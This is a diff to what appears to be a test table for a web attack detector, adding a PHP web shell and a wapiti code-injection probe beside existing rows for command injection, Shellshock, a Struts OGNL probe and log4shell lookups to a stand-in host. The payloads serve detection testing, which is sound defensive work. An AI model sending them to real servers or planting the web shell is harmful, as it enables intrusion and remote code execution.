@@ -87,6 +87,8 @@ const PLACES: readonly [string, string, number, string, string][] = [
   ['command injection in a multipart field', multipart('host', 'example.com$(uname -a)'), CMDI, 'multipart', 'host'],
   ['Shellshock in the User-Agent', get('/cgi-bin/status').replace(/User-Agent: [^\r]*/, "User-Agent: () { :; }; /bin/bash -c 'id'"), CMDI, 'header', 'user-agent'],
   ['OGNL injection (Struts CVE-2017-5638) in the Content-Type', get('/upload.action', "Content-Type: %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check-Struts', 'x')}.multipart/form-data\r\n"), CMDI, 'header', 'content-type'],
+  ['PHP code injection: a web shell in a multipart field', multipart('page', "<?php system($_GET['c']); ?>"), CMDI, 'multipart', 'page'],
+  ['PHP code injection: wapiti\'s exit(md5()) probe in the query', get("/search?q=%27.exit%28md5%28%27w4p1t1_md5%27%29%29%3B%2F%2F"), CMDI, 'query', 'q'],
   ['command injection in a cookie', get('/', 'Cookie: theme=dark%60id%60\r\n'), CMDI, 'cookie', 'theme'],
   ['log4shell in a custom header', get('/', 'X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}\r\n'), LOG4SHELL, 'header', 'x-api-version'],
   ['log4shell with nested lookups in the User-Agent', get('/').replace(/User-Agent: [^\r]*/, 'User-Agent: ${${lower:j}${upper:n}${::-d}${env:NONE:-i}:${lower:l}dap://198.51.100.7/a}'), LOG4SHELL, 'header', 'user-agent'],
